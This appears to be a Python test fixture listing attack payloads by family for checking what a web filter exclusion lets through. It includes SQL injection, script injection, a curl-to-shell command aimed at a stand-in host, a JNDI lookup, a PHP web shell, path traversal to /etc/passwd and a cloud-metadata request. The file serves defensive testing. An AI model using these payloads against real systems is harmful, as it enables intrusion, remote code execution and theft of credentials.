"""Attacks of every family, to see what an exclusion opens; a person who looks is sure of each."""

ATTACKS: tuple[tuple[str, bytes], ...] = (
    ("sql", b"1' OR '1'='1' -- -"),
    ("sql", b"1 UNION SELECT username, password FROM users"),
    ("markup", b"<script>alert(document.cookie)</script>"),
    ("markup", b'"><img src=x onerror=alert(1)>'),
    ("shell", b"; cat /etc/passwd"),
    ("shell", b"$(curl http://203.0.113.9/x | sh)"),
    ("path", b"../../../../etc/passwd"),
    ("template", b"{{7*7}}${7*7}<%= 7*7 %>"),
    ("lookup", b"${jndi:ldap://203.0.113.9/a}"),
    ("code", b"<?php system($_GET['c']); ?>"),
    ("request", b"http://169.254.169.254/latest/meta-data/"),
    ("lines", b"x\r\nSet-Cookie: sid=1\r\n\r\n<html>"),
)
OTHER_NAMES = (b"q", b"comment", b"id")
OTHER_PATHS = (b"/", b"/search", b"/api/items", b"/login")
